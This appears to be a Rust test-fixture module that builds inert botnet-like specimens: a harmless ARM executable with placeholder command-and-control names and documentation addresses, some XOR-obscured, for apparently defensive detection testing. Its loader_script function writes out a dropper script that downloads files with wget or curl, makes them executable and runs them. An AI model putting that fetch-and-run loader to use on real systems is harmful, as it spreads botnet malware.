//! Inert specimens, made here: they look like a bot's files and do nothing.

/// The key with which half of the specimen's contacts are hidden.
pub(crate) const XOR_KEY: u8 = 0x22;

/// Contacts of a specimen: names and addresses of documentation ranges only.
pub(crate) struct Contacts {
    /// Names in clear text.
    pub(crate) plain_names: Vec<String>,
    /// Addresses in clear text.
    pub(crate) plain_addresses: Vec<String>,
    /// Names under [`XOR_KEY`].
    pub(crate) hidden_names: Vec<String>,
    /// Addresses under [`XOR_KEY`].
    pub(crate) hidden_addresses: Vec<String>,
}

impl Contacts {
    /// Contacts that no other run has: `mark` goes into the names, `host` into the addresses.
    pub(crate) fn unique(mark: &str, host: u8) -> Self {
        Self {
            plain_names: vec![format!("cnc-{mark}.example"), format!("report-{mark}.example")],
            plain_addresses: vec![format!("192.0.2.{host}")],
            hidden_names: vec![format!("hidden-{mark}.example"), format!("backup-{mark}.example")],
            hidden_addresses: vec![format!("203.0.113.{host}")],
        }
    }

    /// All names.
    pub(crate) fn names(&self) -> impl Iterator<Item = &String> {
        self.plain_names.iter().chain(&self.hidden_names)
    }

    /// All addresses.
    pub(crate) fn addresses(&self) -> impl Iterator<Item = &String> {
        self.plain_addresses.iter().chain(&self.hidden_addresses)
    }
}

/// A 32-bit little-endian ARM executable whose only instructions are `exit(0)`, with a
/// list of contacts in its data.
pub(crate) fn elf_arm(contacts: &Contacts) -> Vec<u8> {
    const HEADERS: u32 = 52 + 32;
    const BASE: u32 = 0x1_0000;
    let mut body = Vec::new();
    for instruction in [0xe3a0_0000_u32, 0xe3a0_7001, 0xef00_0000] {
        body.extend(instruction.to_le_bytes()); // mov r0, #0; mov r7, #1; svc 0
    }
    for text in contacts.plain_names.iter().chain(&contacts.plain_addresses) {
        body.extend(text.as_bytes());
        body.push(0);
    }
    for text in contacts.hidden_names.iter().chain(&contacts.hidden_addresses) {
        body.extend(text.bytes().chain([0]).map(|byte| byte ^ XOR_KEY));
    }
    // Something between the lists and the end, as a real program has.
    body.extend(b"/proc/net/tcp\0/dev/watchdog\0listening tun0\0".repeat(4));
    let size = HEADERS + body.len() as u32;
    let mut file = Vec::new();
    file.extend(b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0");
    for half in [2_u16, 40] {
        file.extend(half.to_le_bytes()); // ET_EXEC, EM_ARM
    }
    for word in [1, BASE + HEADERS, 52, 0, 0x0500_0400] {
        file.extend(word.to_le_bytes()); // version, entry, phoff, shoff, flags
    }
    for half in [52_u16, 32, 1, 40, 0, 0] {
        file.extend(half.to_le_bytes());
    }
    for word in [1, 0, BASE, BASE, size, size, 5, 0x1000] {
        file.extend(word.to_le_bytes()); // PT_LOAD, readable and executable
    }
    file.extend(body);
    file
}

/// A loader's script: fetches `names` from `base` one after the other and starts them.
pub(crate) fn loader_script(base: &str, names: &[&str]) -> String {
    format!(
        "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nfor f in {}; do\n\
         wget {base}/$f -O $f || curl -o $f {base}/$f\nchmod 777 $f; ./$f telnet.$f; rm -f $f\ndone\n",
        names.join(" ")
    )
}
